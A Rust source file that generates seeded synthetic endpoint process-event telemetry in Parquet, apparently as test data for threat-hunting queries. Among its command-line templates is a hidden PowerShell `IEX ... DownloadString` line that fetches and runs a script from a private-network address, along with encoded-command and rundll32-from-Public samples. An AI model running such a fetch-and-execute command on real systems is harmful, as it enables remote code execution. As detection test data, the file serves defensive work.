//! Rows of `DeviceProcessEvents` as a busy tenant has them, the same for the same seed.
//!
//! A process has a parent that ran on the same device shortly before; images and devices are as
//! unevenly used as real ones; most command lines occur once.

use std::error::Error;
use std::fs::File;
use std::path::Path;
use std::sync::Arc;

use arrow::array::{
    ArrayRef, Int64Builder, RecordBatch, StringBuilder, TimestampMicrosecondBuilder,
};
use arrow::datatypes::{DataType, Field, Schema, SchemaRef, TimeUnit};
use parquet::arrow::ArrowWriter;
use parquet::basic::{Compression, ZstdLevel};
use parquet::file::properties::WriterProperties;

const DEVICES: usize = 1_500;
const IMAGES: usize = 3_000;
const ACCOUNTS: usize = 2_500;
const ROW_GROUP: usize = 122_880;
const BATCH: usize = 8_192;
/// 2026-10-01T00:00:00Z in microseconds since 1970.
const START: i64 = 1_790_812_800_000_000;
const DAYS: i64 = 30;

/// The columns, in the order of the hunting schema.
const COLUMNS: &[(&str, Kind)] = &[
    ("Timestamp", Kind::Time),
    ("DeviceId", Kind::Text),
    ("DeviceName", Kind::Text),
    ("ActionType", Kind::Text),
    ("FileName", Kind::Text),
    ("FolderPath", Kind::Text),
    ("SHA1", Kind::Text),
    ("SHA256", Kind::Text),
    ("MD5", Kind::Text),
    ("FileSize", Kind::Number),
    ("ProcessVersionInfoCompanyName", Kind::Text),
    ("ProcessVersionInfoProductName", Kind::Text),
    ("ProcessVersionInfoOriginalFileName", Kind::Text),
    ("ProcessId", Kind::Number),
    ("ProcessCommandLine", Kind::Text),
    ("ProcessIntegrityLevel", Kind::Text),
    ("ProcessTokenElevation", Kind::Text),
    ("ProcessCreationTime", Kind::Time),
    ("AccountDomain", Kind::Text),
    ("AccountName", Kind::Text),
    ("AccountSid", Kind::Text),
    ("LogonId", Kind::Number),
    ("InitiatingProcessAccountName", Kind::Text),
    ("InitiatingProcessSHA256", Kind::Text),
    ("InitiatingProcessFileName", Kind::Text),
    ("InitiatingProcessId", Kind::Number),
    ("InitiatingProcessCommandLine", Kind::Text),
    ("InitiatingProcessCreationTime", Kind::Time),
    ("InitiatingProcessFolderPath", Kind::Text),
    ("InitiatingProcessParentFileName", Kind::Text),
    ("ReportId", Kind::Number),
    ("AdditionalFields", Kind::Text),
];

const COMMON: &[&str] = &[
    "svchost.exe",
    "conhost.exe",
    "cmd.exe",
    "powershell.exe",
    "chrome.exe",
    "msedge.exe",
    "backgroundTaskHost.exe",
    "RuntimeBroker.exe",
    "WmiPrvSE.exe",
    "taskhostw.exe",
    "dllhost.exe",
    "rundll32.exe",
    "SearchProtocolHost.exe",
    "MsMpEng.exe",
    "explorer.exe",
    "OUTLOOK.EXE",
    "WINWORD.EXE",
    "Teams.exe",
    "reg.exe",
    "schtasks.exe",
    "net.exe",
    "whoami.exe",
    "regsvr32.exe",
    "mshta.exe",
    "certutil.exe",
    "bitsadmin.exe",
    "pwsh.exe",
    "python.exe",
    "git.exe",
    "node.exe",
];

#[derive(Clone, Copy)]
enum Kind {
    Time,
    Text,
    Number,
}

/// `SplitMix64`.
struct Dice(u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        mixed ^ (mixed >> 31)
    }

    fn below(&mut self, bound: usize) -> usize {
        usize::try_from(self.next() % bound as u64).unwrap_or(0)
    }

    /// Small numbers far more often than large ones.
    fn skewed(&mut self, bound: usize) -> usize {
        #[expect(clippy::cast_precision_loss, reason = "a die of 53 bits")]
        let unit = (self.next() >> 11) as f64 / (1_u64 << 53) as f64;
        #[expect(
            clippy::cast_precision_loss,
            clippy::cast_possible_truncation,
            clippy::cast_sign_loss,
            reason = "bounds are small"
        )]
        let at = ((bound as f64 + 1.0).powf(unit) - 1.0) as usize;
        at.min(bound - 1)
    }

    fn hex(&mut self, digits: usize) -> String {
        let mut text = String::with_capacity(digits + 16);
        while text.len() < digits {
            let word = self.next().to_be_bytes();
            for nibble in word.iter().flat_map(|byte| [byte >> 4, byte & 15]) {
                text.extend(char::from_digit(u32::from(nibble), 16));
            }
        }
        text.truncate(digits);
        text
    }

    fn base64(&mut self, length: usize) -> String {
        const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        (0..length)
            .map(|_| char::from(LETTERS[self.below(LETTERS.len())]))
            .collect()
    }
}

struct Image {
    file: String,
    folder: String,
    sha1: String,
    sha256: String,
    md5: String,
    size: i64,
    company: String,
    product: String,
}

#[derive(Clone)]
struct Process {
    image: usize,
    account: usize,
    id: i64,
    created: i64,
    line: String,
    parent: usize,
}

enum Cells {
    Time(TimestampMicrosecondBuilder),
    Text(StringBuilder),
    Number(Int64Builder),
}

struct Row<'a> {
    cells: &'a mut [Cells],
    at: usize,
}

impl Row<'_> {
    fn time(&mut self, microseconds: i64) {
        if let Cells::Time(builder) = &mut self.cells[self.at] {
            builder.append_value(microseconds);
        }
        self.at += 1;
    }

    fn text(&mut self, text: &str) {
        if let Cells::Text(builder) = &mut self.cells[self.at] {
            builder.append_value(text);
        }
        self.at += 1;
    }

    fn number(&mut self, number: i64) {
        if let Cells::Number(builder) = &mut self.cells[self.at] {
            builder.append_value(number);
        }
        self.at += 1;
    }
}

fn schema() -> SchemaRef {
    let field = |(name, kind): &(&str, Kind)| {
        let data = match kind {
            Kind::Time => DataType::Timestamp(TimeUnit::Microsecond, None),
            Kind::Text => DataType::Utf8,
            Kind::Number => DataType::Int64,
        };
        Field::new(*name, data, true)
    };
    Arc::new(Schema::new(COLUMNS.iter().map(field).collect::<Vec<_>>()))
}

fn images(dice: &mut Dice) -> Vec<Image> {
    (0..IMAGES)
        .map(|at| {
            let (file, folder, company) = if let Some(name) = COMMON.get(at) {
                (
                    (*name).to_owned(),
                    format!("C:\\Windows\\System32\\{name}"),
                    "Microsoft Corporation".to_owned(),
                )
            } else {
                let vendor = dice.below(200);
                let name = format!("tool{at:04}.exe");
                let folder = format!("C:\\Program Files\\Vendor{vendor:03}\\{name}");
                (name, folder, format!("Vendor {vendor:03} Inc."))
            };
            Image {
                product: format!("{company} Product {}", at % 40),
                file,
                folder,
                sha1: dice.hex(40),
                sha256: dice.hex(64),
                md5: dice.hex(32),
                size: i64::try_from(20_000 + dice.below(8_000_000)).unwrap_or(0),
                company,
            }
        })
        .collect()
}

fn command_line(dice: &mut Dice, image: &Image) -> String {
    let path = &image.folder;
    match image.file.as_str() {
        "powershell.exe" | "pwsh.exe" => match dice.below(40) {
            0 => format!(
                "{} -NoProfile -WindowStyle Hidden -EncodedCommand {}",
                image.file,
                dice.base64(160)
            ),
            1 => format!(
                "{} -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.{}.{}.{}/a.ps1')\"",
                image.file,
                dice.below(256),
                dice.below(256),
                dice.below(256)
            ),
            2 => format!(
                "{} -c \"[Convert]::FromBase64String('{}')\"",
                image.file,
                dice.base64(60)
            ),
            3..=12 => format!("{} -NoProfile -File C:\\Scripts\\inventory.ps1", image.file),
            _ => format!(
                "\"{path}\" -ExecutionPolicy Bypass -File \"C:\\ProgramData\\Agent\\{}\\task{}.ps1\"",
                dice.below(400),
                dice.below(50)
            ),
        },
        "cmd.exe" => match dice.below(3) {
            0 => format!(
                "cmd.exe /c copy \\\\srv{:03}.corp.example\\share{}\\file{}.dat C:\\Temp",
                dice.below(200),
                dice.below(20),
                dice.below(100_000)
            ),
            _ => format!(
                "cmd.exe /d /s /c \"C:\\build\\{}\\run.cmd {}\"",
                dice.hex(8),
                dice.below(1000)
            ),
        },
        "svchost.exe" => format!(
            "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Service{}",
            dice.below(120)
        ),
        "conhost.exe" => "\\??\\C:\\Windows\\System32\\conhost.exe 0xffffffff -ForceV1".to_owned(),
        "chrome.exe" | "msedge.exe" => format!(
            "\"{path}\" --type=renderer --lang=en-US --device-scale-factor=1 --renderer-client-id={} --time-ticks-at-unix-epoch=-{} --launch-time-ticks={} --field-trial-handle={},i,{},262144",
            dice.below(5_000),
            dice.below(1_000_000_000),
            dice.below(1_000_000_000),
            dice.below(100_000),
            dice.next()
        ),
        "rundll32.exe" => format!("rundll32.exe C:\\Users\\Public\\{}.dll,Start", dice.hex(6)),
        "reg.exe" => format!(
            "reg query HKLM\\Software\\Vendor{:03} /v Version",
            dice.below(200)
        ),
        _ => format!(
            "\"{path}\" --session {} --worker {}",
            dice.hex(12),
            dice.below(64)
        ),
    }
}

fn additional(dice: &mut Dice) -> String {
    const TACTICS: &[&str] = &[
        "Execution",
        "Persistence",
        "Discovery",
        "Collection",
        "Impact",
    ];
    match dice.below(10) {
        0 => {
            let count = 1 + dice.below(3);
            let techniques: Vec<String> = (0..count)
                .map(|_| format!("\"T{}\"", 1003 + dice.skewed(500)))
                .collect();
            format!(
                "{{\"Detection\":{{\"Tactic\":\"{}\",\"Score\":{},\"Techniques\":[{}]}},\"Source\":\"rule-{}\"}}",
                TACTICS[dice.below(TACTICS.len())],
                dice.below(100),
                techniques.join(","),
                dice.below(300)
            )
        }
        1 | 2 => format!(
            "{{\"InitiatingProcessCommandLine\":\"{}\",\"Flags\":{}}}",
            dice.hex(16),
            dice.below(1 << 16)
        ),
        _ => String::new(),
    }
}

/// Writes `rows` events to `path`.
#[expect(clippy::too_many_lines, reason = "column after column")]
pub(crate) fn write(path: &Path, rows: usize) -> Result<(), Box<dyn Error>> {
    let mut dice = Dice(0x5EED);
    let images = images(&mut dice);
    let devices: Vec<(String, String)> = (0..DEVICES)
        .map(|at| (dice.hex(40), format!("host{at:04}.corp.example")))
        .collect();
    let sids: Vec<String> = (0..ACCOUNTS)
        .map(|at| {
            format!(
                "S-1-5-21-{}-{}-{at}",
                dice.below(1 << 31),
                dice.below(1 << 31)
            )
        })
        .collect();
    let names: Vec<String> = (0..ACCOUNTS).map(|at| format!("user{at:04}")).collect();
    let mut recent: Vec<Vec<Process>> = vec![Vec::new(); DEVICES];
    let mut next_id: Vec<i64> = vec![400; DEVICES];

    let schema = schema();
    let properties = WriterProperties::builder()
        .set_compression(Compression::ZSTD(ZstdLevel::try_new(3)?))
        .set_max_row_group_row_count(Some(ROW_GROUP))
        .build();
    let mut writer =
        ArrowWriter::try_new(File::create(path)?, Arc::clone(&schema), Some(properties))?;
    let step = DAYS * 86_400_000_000 / i64::try_from(rows.max(1))?;
    let mut done = 0;
    while done < rows {
        let size = BATCH.min(rows - done);
        let mut cells: Vec<Cells> = COLUMNS
            .iter()
            .map(|(_, kind)| match kind {
                Kind::Time => Cells::Time(TimestampMicrosecondBuilder::new()),
                Kind::Text => Cells::Text(StringBuilder::new()),
                Kind::Number => Cells::Number(Int64Builder::new()),
            })
            .collect();
        for number in done..done + size {
            let device = dice.skewed(DEVICES);
            let image = dice.skewed(IMAGES);
            let jitter = i64::try_from(dice.below(usize::try_from(step.max(1))?))?;
            let at = START + i64::try_from(number)? * step + jitter;
            next_id[device] += 4 * i64::try_from(1 + dice.below(8))?;
            if next_id[device] > 60_000 {
                next_id[device] = 400;
            }
            let parent = match recent[device].len() {
                0 => Process {
                    image: 0,
                    account: 0,
                    id: 4,
                    created: START,
                    line: String::new(),
                    parent: 0,
                },
                count => recent[device][dice.below(count)].clone(),
            };
            let process = Process {
                image,
                account: (device * 7 + dice.skewed(12)) % ACCOUNTS,
                id: next_id[device],
                created: at - i64::try_from(dice.below(2_000))?,
                line: command_line(&mut dice, &images[image]),
                parent: parent.image,
            };
            let mut row = Row {
                cells: &mut cells,
                at: 0,
            };
            let own = &images[image];
            let above = &images[parent.image];
            row.time(at);
            row.text(&devices[device].0);
            row.text(&devices[device].1);
            row.text(if dice.below(50) == 0 {
                "OpenProcess"
            } else {
                "ProcessCreated"
            });
            row.text(&own.file);
            row.text(&own.folder);
            row.text(&own.sha1);
            row.text(&own.sha256);
            row.text(&own.md5);
            row.number(own.size);
            row.text(&own.company);
            row.text(&own.product);
            row.text(&own.file);
            row.number(process.id);
            row.text(&process.line);
            row.text(["Medium", "High", "System", "Low"][dice.skewed(4)]);
            row.text(["TokenElevationTypeDefault", "TokenElevationTypeLimited"][dice.below(2)]);
            row.time(process.created);
            row.text("corp");
            row.text(&names[process.account]);
            row.text(&sids[process.account]);
            row.number(i64::try_from(dice.below(1 << 24))?);
            row.text(&names[parent.account]);
            row.text(&above.sha256);
            row.text(&above.file);
            row.number(parent.id);
            row.text(&parent.line);
            row.time(parent.created);
            row.text(&above.folder);
            row.text(&images[parent.parent].file);
            row.number(i64::try_from(number)?);
            row.text(&additional(&mut dice));
            let known = &mut recent[device];
            if known.len() < 12 {
                known.push(process);
            } else {
                let place = dice.below(known.len());
                known[place] = process;
            }
        }
        let arrays = cells
            .iter_mut()
            .map(|one| -> ArrayRef {
                match one {
                    Cells::Time(builder) => Arc::new(builder.finish()),
                    Cells::Text(builder) => Arc::new(builder.finish()),
                    Cells::Number(builder) => Arc::new(builder.finish()),
                }
            })
            .collect();
        writer.write(&RecordBatch::try_new(Arc::clone(&schema), arrays)?)?;
        done += size;
    }
    writer.close()?;
    Ok(())
}
